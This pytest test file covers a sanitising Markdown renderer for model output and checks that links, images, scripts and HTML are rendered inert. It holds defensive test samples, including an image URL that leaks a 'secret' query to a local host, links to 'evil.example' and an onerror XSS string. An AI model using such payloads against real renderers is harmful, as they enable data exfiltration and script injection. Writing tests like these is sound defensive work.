"""A model's Markdown as a tree: its structure shows, nothing in it is live, and every piece knows where it stands."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.reporting.model_text import markdown, verbatim
from rag.reporting.trees import plain, text_of
from tests.pages.test_safe_text import HOSTILE

TEXT = (
    "## What it cost\n\nThe **repairs** cost 1.2 *million* euros [1].\n\n- one [2]\n- two\n\n| Year | Sum |\n|---|---|\n| 2023 | 9 [1] |\n\n"
    "```\ncode\n```\n\n3. third\n4. fourth\n"
)


def tags(nodes: Any) -> set[str]:
    return {node[0].partition(".")[0] for node in nodes if isinstance(node, list)} | {
        tag for node in nodes if isinstance(node, list) for tag in tags(node[2:])
    }


def shown(source: str) -> str:
    return "".join(text_of(markdown(source)))


def test_structure_is_drawn() -> None:
    """Headings, paragraphs, lists, tables, code and emphasis become elements; a list that begins at 3 says so."""
    nodes = markdown(TEXT)
    assert {"h3", "p", "strong", "em", "ul", "ol", "li", "table", "th", "td", "pre"} <= tags(nodes)
    assert 3 == next(node for node in nodes if node[0] == "ol")[1]["start"]


@pytest.mark.parametrize("source", HOSTILE)
def test_no_beginning_of_a_hostile_text_is_live(source: str) -> None:
    """Whatever a model writes, and wherever it is cut, only elements that cannot load, link or run come out."""
    for end in range(len(source) + 1):
        assert not tags(markdown(source[:end])) & {"a", "img", "iframe", "script", "style", "form", "input"}


def test_an_image_is_a_note_with_its_host() -> None:
    """The reader learns that an image was there and where it would have been fetched from."""
    assert "image blocked: 127.0.0.1" in shown("See ![x](http://127.0.0.1:9/leak?q=secret).")


def test_a_link_shows_where_it_leads() -> None:
    """Words and host; nothing to click."""
    assert "the report (evil.example)" in shown("Read [the report](https://evil.example/a).")


def test_html_stays_the_text_that_it_is() -> None:
    """Tags are shown, not read."""
    assert "<img src=x onerror=alert(1)>" in shown("So <img src=x onerror=alert(1)> it goes.")


def test_a_reference_definition_takes_no_marker_away() -> None:
    """`[1]: address` would make every `[1]` of the text a link."""
    assert "true [1]." in shown("It is true [1].\n\n[1]: http://evil.example\n")


def test_reordering_characters_are_written_out() -> None:
    """An override cannot make a figure read backwards."""
    assert "12⟨202E⟩34" == plain("12\u202e34")


def test_pieces_know_their_offset() -> None:
    """What the offset says stands in the source, also behind code, escapes, links and in tables."""
    source = TEXT + "\n`x` and \\* and [a](http://b.c/d) then **the end** [3]."
    pieces: list[tuple[str, int]] = []

    def note(text: str, at: int) -> list[Any]:
        pieces.append((text, at))
        return [text]

    markdown(source, note)
    assert [text for text, _ in pieces] == [source[at : at + len(text)] for text, at in pieces]
    assert any("[3]" in text for text, _ in pieces)


@given(st.text(alphabet="ab1 *_`[](){}#>|-+!\\\n\t<&;:.~=\u202e", max_size=120))
def test_any_text_can_be_drawn(source: str) -> None:
    """No text breaks the reader, and letters are never lost outside of addresses."""
    said = shown(source)
    if "(" not in source:
        assert (
            sum(c in "ab" for c in source)
            <= sum(c in "ab" for c in said) + source.count("`") * 120 + source.count("~") * 120
        )


def test_extracts_are_not_read_as_markdown() -> None:
    """Words of a document stay as they stand there."""
    assert ["*12* # no heading"] == list(text_of(verbatim("*12* # no heading")))
